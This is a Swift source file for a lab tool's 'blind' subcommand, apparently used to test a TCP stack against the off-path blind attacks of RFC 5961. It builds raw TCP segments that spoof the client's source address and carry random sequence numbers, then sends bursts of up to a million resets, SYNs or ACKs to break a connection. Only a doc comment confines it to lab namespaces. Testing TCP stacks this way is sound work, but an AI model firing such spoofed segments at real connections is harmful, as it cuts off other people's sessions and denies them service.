import ArgumentParser
import FTCPLinux
import FTCPWire
import Glibc

extension LabToolCommand {
    /// Sends what an off-path attacker who knows a connection's addresses and ports, but not its
    /// sequence numbers, sends to break it (RFC 5961's blind attacks): resets, SYNs and ACKs
    /// with random sequence and acknowledgment numbers, as if from the client. For the lab only:
    /// to one connection inside namespaces the lab created, bounded in count.
    struct Blind: ParsableCommand {
        static let configuration = CommandConfiguration(
            commandName: "blind",
            abstract: "Send COUNT blind RST, SYN or ACK segments with random numbers on one connection."
        )

        @Option(help: "The client's end of the connection (address:port), spoofed as the source.")
        var from: String
        @Option(help: "The server's end (address:port).")
        var to: String
        @Option(help: "rst, syn or ack (an ACK of data never sent, with a random sequence number).")
        var kind: String = "rst"
        @Option(help: "How many segments.")
        var count: Int = 1000
        @Option(help: "Segments per second.")
        var rate: Int = 2000

        func validate() throws {
            guard ["rst", "syn", "ack"].contains(kind) else { throw ValidationError("--kind must be rst, syn or ack") }
            guard count > 0, count <= 1_000_000 else { throw ValidationError("--count must be between 1 and 1000000") }
            guard rate > 0, rate <= 100_000 else { throw ValidationError("--rate must be between 1 and 100000") }
        }

        func run() throws {
            let client = try endpoint(from, "--from")
            let server = try endpoint(to, "--to")
            let socket = try RawIPv4Socket()
            var random = SystemRandomNumberGenerator()
            let flags: TCPFlags = kind == "rst" ? [.rst] : kind == "syn" ? [.syn] : [.ack]
            var packet = [UInt8](repeating: 0, count: 64)
            var sent = 0
            for index in 0..<count {
                let fields = TCPPacketFields(
                    source: IPv4Address(UInt32(bigEndian: client.address.s_addr)),
                    destination: IPv4Address(UInt32(bigEndian: server.address.s_addr)),
                    sourcePort: client.port,
                    destinationPort: server.port,
                    sequenceNumber: SequenceNumber(random.next()),
                    acknowledgmentNumber: SequenceNumber(kind == "ack" ? random.next() : 0),
                    flags: flags,
                    window: 1_000,
                    options: [],
                    payload: []
                )
                let length = try packet.withUnsafeMutableBytes { try fields.build(into: $0) }
                try packet.withUnsafeBytes { try socket.send(UnsafeRawBufferPointer(rebasing: $0[0..<length])) }
                sent += 1
                if index % max(1, rate / 1000) == 0 { usleep(1_000) }
            }
            emit("blind kind=\(kind) sent=\(sent)")
        }
    }
}
